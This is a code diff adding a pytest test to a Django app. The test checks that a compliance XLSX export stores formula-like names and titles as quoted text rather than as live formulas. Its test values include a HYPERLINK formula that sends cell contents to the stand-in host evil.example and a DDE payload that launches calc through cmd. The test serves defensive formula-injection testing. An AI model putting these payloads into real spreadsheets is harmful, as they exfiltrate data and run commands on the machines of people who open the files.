@@ -3,6 +3,7 @@
 
 import datetime as dt
 import io
+import zipfile
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -107,6 +108,31 @@ def test_the_compliance_export_is_an_xlsx_with_a_summary_and_every_obligation(
     names = [row[0] for row in summary.iter_rows(min_row=2, values_only=True)]
     assert tree.a.name in names
     assert any(row[1] == dues.name for row in detail.iter_rows(min_row=2, values_only=True))
+
+
+@pytest.mark.parametrize(
+    "title",
+    ['=HYPERLINK("https://evil.example/?"&A1,"点此")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"],
+)
+def test_the_compliance_export_never_holds_a_formula(client, tree, sam, olga, victor, dues, title):
+    """Formula injection: names and titles that begin like a formula are text cells in the workbook."""
+    from branches.models import Organisation
+
+    Organisation.objects.filter(pk=tree.a.pk).update(name="=cmd|' /C calc'!A0")
+    CatalogueEntry.objects.filter(pk=dues.pk).update(name="-2+3")
+    publish(author=sam, reviewer=olga, approver=sam, org=tree.a, catalogue_entry=dues, title=title)
+    client.force_login(victor)
+    response = client.get(reverse("openness:compliance_export"))
+
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert len(sheets) == 2 and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
+    summary, detail = load_workbook(io.BytesIO(response.content)).worksheets
+    cells = [c for row in (*summary.iter_rows(min_row=2), *detail.iter_rows(min_row=2)) for c in row]
+    hostile = [c for c in cells if isinstance(c.value, str) and c.value.lstrip("\t\r\n")[:1] in "=+-@"]
+    assert {c.value for c in hostile} >= {"=cmd|' /C calc'!A0", "-2+3"}
+    assert any(c.value.strip() == title.strip() for c in hostile)  # the title, character for character
+    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
 
 
 def test_the_compliance_board_is_scoped_to_what_the_user_oversees(client, tree, sam, olga, alice, dues):
